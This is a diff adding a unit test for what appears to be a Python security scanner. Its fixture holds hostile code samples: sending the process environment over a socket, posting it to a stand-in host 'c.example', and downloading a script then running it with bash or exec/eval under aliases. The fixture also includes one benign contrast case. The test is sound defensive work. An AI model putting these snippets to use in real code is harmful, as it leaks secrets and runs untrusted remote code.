@@ -63,3 +63,24 @@ def test_python_names_are_scoped_to_their_function() -> None:
         "    subprocess.run(['python3', '-c', code])\n"
     )
     assert {(h.line, h.rule_id) for h in analyse_python(text)} == {(14, "sec-remote-exec")}
+
+
+def test_python_connections_instance_state_written_files_and_exec_aliases() -> None:
+    text = (
+        "import os, json, socket, requests, urllib.request\n"
+        "def a(h):\n    s = socket.create_connection((h, 443))\n    s.sendall(json.dumps(dict(os.environ)).encode())\n"
+        "class R:\n    def __init__(self):\n        self.env = dict(os.environ)\n        self.http = requests.Session()\n"
+        "    def send(self):\n        self.http.post('https://c.example', json=self.env)\n"
+        "def b(u):\n    urllib.request.urlretrieve(u, '/tmp/i.sh')\n    os.system('bash /tmp/i.sh')\n"
+        "def c(u):\n    run = exec\n    run(requests.get(u).text)\n    getattr(__builtins__, 'eval')(requests.get(u).text)\n"
+        "def d(u):\n    with open('rows.csv', 'w') as fh:\n        fh.write(requests.get(u).text)\n"
+        "    os.system('wc -l rows.csv')\n"
+    )
+    found = {(h.line, h.rule_id) for h in analyse_python(text)}
+    assert found == {
+        (4, "sec-exfiltration"),  # a socket's sendall of the environment
+        (10, "sec-exfiltration"),  # a session kept on self, the environment set in __init__
+        (13, "sec-remote-exec"),  # the file urlretrieve wrote, run by bash
+        (16, "sec-remote-exec"),  # exec under another name
+        (17, "sec-remote-exec"),  # getattr(builtins, "eval")
+    }  # line 21: a downloaded CSV counted by wc is not run
